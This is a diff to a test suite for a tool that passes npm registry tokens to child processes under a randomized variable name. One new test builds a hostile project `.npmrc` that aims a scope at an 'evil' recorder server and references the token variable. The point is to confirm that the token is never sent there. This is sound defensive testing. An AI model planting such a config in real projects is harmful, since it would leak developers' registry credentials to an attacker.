@@ -128,14 +128,20 @@ def test_exec_npm_whoami_and_the_childs_environment(start_sandbox, tmp_path):
     assert seen.returncode == 0, seen.stderr
     environment, config = seen.stdout.split("--- config\n")
     names = dict(line.split("=", 1) for line in environment.splitlines() if "=" in line)
-    assert names["TOKENSH_EXEC_TOKEN"] == token
+    variables = [name for name in names if name.startswith("TOKENSH_EXEC_TOKEN")]
+    assert len(variables) == 1 and re.fullmatch(r"TOKENSH_EXEC_TOKEN_[0-9A-F]{16}", variables[0]), variables
+    variable = variables[0]
+    assert names[variable] == token
     for secret in ("TOKENSH_TOKEN", "TOKENSH_PASSWORD", "TOKENSH_OTP"):
         assert secret not in names, f"{secret} reached the child"
     assert [value for name, value in names.items() if token in value] == [token], "the token in a second variable"
     assert names["NPM_CONFIG_USERCONFIG"].startswith("/dev/fd/")
     # The user's settings byte for byte, then the one placeholder line.
     assert config == (
-        "; the user's own settings\ncolor=false\nfund=false\n" + sandbox.nerf + ":_authToken=${TOKENSH_EXEC_TOKEN}\n")
+        "; the user's own settings\ncolor=false\nfund=false\n" + sandbox.nerf + ":_authToken=${" + variable + "}\n")
+    # A new name each run: a project file cannot name it in advance.
+    again = user.run("sh", "-c", "env")
+    assert variable not in again.stdout and "TOKENSH_EXEC_TOKEN_" in again.stdout
     user.assert_no_token_in_files()
 
 
@@ -317,3 +323,56 @@ def test_help_exec_shows_npms_own_way_and_it_works_when_pasted(start_sandbox, tm
                                 text=True, env=env, cwd=project, timeout=60)
         assert pasted.returncode == 0, (line, pasted.stderr)
     assert pasted.stdout.strip() == "alice"
+
+
+class HeaderRecorder:
+    """A registry elsewhere (127.0.0.2) that a cloned project points a scope at: records every
+    Authorization header it is sent and answers 404."""
+
+    def __init__(self):
+        import http.server
+
+        recorder = self
+        self.seen = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                recorder.seen.append((self.path, self.headers.get("authorization")))
+                self.send_response(404)
+                self.send_header("content-type", "application/json")
+                self.end_headers()
+                self.wfile.write(b'{"error":"not found"}')
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.HTTPServer(("127.0.0.2", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_a_cloned_projects_npmrc_cannot_name_the_exec_variable_for_its_own_registry(start_sandbox, tmp_path):
+    """The variable's name is new each run: a project `.npmrc` that points a scope at its own
+    server with `${TOKENSH_EXEC_TOKEN…}` as the token gets nothing."""
+    sandbox, token = issue_token(start_sandbox, tmp_path, "--user", f"alice:{PASSWORD}")
+    user = ExecUser(tmp_path, sandbox, token)
+    evil = HeaderRecorder()
+    try:
+        project = user.shell.home / "cloned"
+        project.mkdir()
+        (project / ".npmrc").write_text(
+            f"@evil:registry=http://127.0.0.2:{evil.port}/\n"
+            f"//127.0.0.2:{evil.port}/:_authToken=${{TOKENSH_EXEC_TOKEN}}\n")
+        viewed = user.run("npm", "view", "@evil/thing", cwd=project)
+        assert viewed.returncode != 0
+        assert all(token not in (header or "") for _, header in evil.seen), evil.seen
+        # The registry of the run itself still gets it.
+        whoami = user.run("npm", "whoami", cwd=project)
+        assert whoami.stdout.strip() == "alice", whoami.stderr
+    finally:
+        evil.close()
+    assert token not in viewed.stdout + viewed.stderr
